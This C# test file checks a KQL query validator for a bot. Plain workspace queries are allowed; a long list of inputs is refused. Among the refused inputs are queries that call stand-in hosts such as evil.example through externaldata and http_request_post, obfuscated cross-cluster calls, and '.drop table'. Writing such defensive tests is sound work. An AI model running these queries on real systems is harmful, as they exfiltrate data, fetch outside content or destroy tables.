using RunModes.Bot.Plans;

namespace RunModes.Bot.Tests.Plans;

/// <summary>What leads out of the named workspace, or is more than a query, is refused where it is stored, however it is written.</summary>
public sealed class LiteralQueryTests
{
    [Theory]
    [InlineData("AppRequests | where Success == false | summarize count() by ResultCode, bin(TimeGenerated, 5m)")]
    [InlineData("let slow = 3s; AppRequests | where DurationMs > slow | take 20")]
    [InlineData("AzureDiagnostics | where Resource =~ 'shop' and Category has 'workspace' | project Resource, Database, app")]
    [InlineData("KubePodInventory | where ClusterName == 'aks' and ClusterId contains 'aks' | summarize dcount(Name) by ClusterName")]
    [InlineData("AppTraces | where Message matches regex @'\\d+ of \\d+' | extend x = parse_json(Properties)['user'] | count")]
    [InlineData("AppRequests | where Url startswith 'https://shop.contoso.com/' | count")]
    [InlineData("union AppRequests, AppExceptions | summarize make_set(Type), set_union(pack_array(1), pack_array(2))")]
    [InlineData("(AppRequests | count)")]
    [InlineData("print x = 1\n| extend y = 2 // and no more\n| project y")]
    public void A_query_of_the_workspace_is_run_as_it_is(string kql) => Assert.Null(LiteralQuery.Problem(kql));

    [Theory]
    [InlineData(".drop table AppRequests")]
    [InlineData("  \n\t.show tables")]
    [InlineData("// harmless\n.show tables")]
    [InlineData("T | count; .show tables")]
    [InlineData("T | count;// x\n  .show tables")]
    [InlineData("#connect 'https://help.kusto.windows.net'")]
    [InlineData("T\n#connect x")]
    [InlineData("cluster('help').database('Samples').StormEvents")]
    [InlineData("Cluster('help').T")]
    [InlineData("CLUSTER ( 'help' ).T")]
    [InlineData("cluster\n\t('help').T")]
    [InlineData("cluster // where\n ('help').T")]
    [InlineData("cluster // a\n// b\n(\"help\").T")]
    [InlineData("T | union (cluster('help').T)")]
    [InlineData("T | join (database('x').T) on a")]
    [InlineData("union workspace('other').AppRequests, AppRequests")]
    [InlineData("union workspace\u00a0('other').AppRequests")]
    [InlineData("app('other').requests")]
    [InlineData("resource('/subscriptions/x').T")]
    [InlineData("adx('https://help.kusto.windows.net/Samples').T")]
    [InlineData("arg('').Resources")]
    [InlineData("T | where a in (arg(\"\").Resources)")]
    [InlineData("['cluster']('help').T")]
    [InlineData("[\"cluster\"]('help').T")]
    [InlineData("T | extend z = ['cluster'] ('help')")]
    [InlineData("T | union [\"clu\\x73ter\"]('help').T")]
    [InlineData("T | union [ // x\n \"clu\\163ter\"]('help').T")]
    [InlineData("T | union [@'clu\\u0073ter']('help').T")]
    [InlineData("externaldata(a:string)['https://evil.example/x.csv']")]
    [InlineData("let x = externaldata (a:string) [h'https://evil.example/']; x")]
    [InlineData("let x = external_data(a:string)['https://evil.example/']; x")]
    [InlineData("external_table('x')")]
    [InlineData("T | where s == \"\" // \" externaldata(a:string)['https://evil.example/']")]
    [InlineData("evaluate http_request('https://evil.example/')")]
    [InlineData("T | evaluate http_request_post('https://evil.example/', dynamic({}))")]
    [InlineData("T |\nevaluate\n sql_request('x')")]
    [InlineData("T | EVALUATE python(typeof(*), 'import os')")]
    [InlineData("T | invoke f()")]
    [InlineData("set notruncation; T")]
    [InlineData("let a = 1;\nset query_datascope = 'all'; T")]
    [InlineData("let a = 1; // x\n SET truncationmaxsize = 1; T")]
    [InlineData("alias database d = cluster('x').database('y'); T")]
    [InlineData("declare query_parameters(a:string); T")]
    [InlineData("restrict access to (T); T")]
    [InlineData("declare pattern p = (a:string) { ('x') = { T } }; p('x')")]
    [InlineData("macro-expand entity_group [a] as X (X.T)")]
    [InlineData("materialized_view('v')")]
    [InlineData("stored_query_result('v')")]
    [InlineData("clu\u200bster('help').T")]
    [InlineData("T\u2028.show tables")]
    [InlineData("T // x\r cluster('y')")]
    [InlineData("T | where a == '\0'")]
    [InlineData("'T' | count")]
    [InlineData("| count")]
    [InlineData("")]
    public void Whatever_leads_elsewhere_or_manages_is_refused(string kql)
    {
        Assert.NotNull(LiteralQuery.Problem(kql.Trim('\r')));
        Assert.False(ToolStep.TryRead($"query prod: {kql}", out _, out var problem));
        Assert.NotNull(problem);
    }

    [Fact]
    public void One_that_is_too_long_is_refused() => Assert.NotNull(LiteralQuery.Problem("T | where a == 1 " + new string('x', LiteralQuery.Longest)));

    /// <summary>Blanks, comments and case between the signs of what is refused make it no other thing.</summary>
    [Fact]
    public void However_the_signs_of_a_call_are_set_apart_it_is_refused()
    {
        var dice = new Random(7);
        string[] words = ["cluster", "database", "workspace", "app", "resource", "adx", "arg"];
        string[] gaps = ["", " ", "\t", "\n", "// (\n", " // ')' \n\t", "\n\n  // cluster\n"];
        for (var i = 0; i < 2000; i++)
        {
            var word = string.Concat(words[dice.Next(words.Length)].Select(c => dice.Next(2) == 0 ? c : char.ToUpperInvariant(c)));
            var gap = string.Concat(Enumerable.Range(0, dice.Next(4)).Select(_ => gaps[dice.Next(gaps.Length)]));
            var kql = $"T | union ({word}{gap}('x').T)";
            Assert.True(LiteralQuery.Problem(kql) is not null, kql);
        }
    }
}
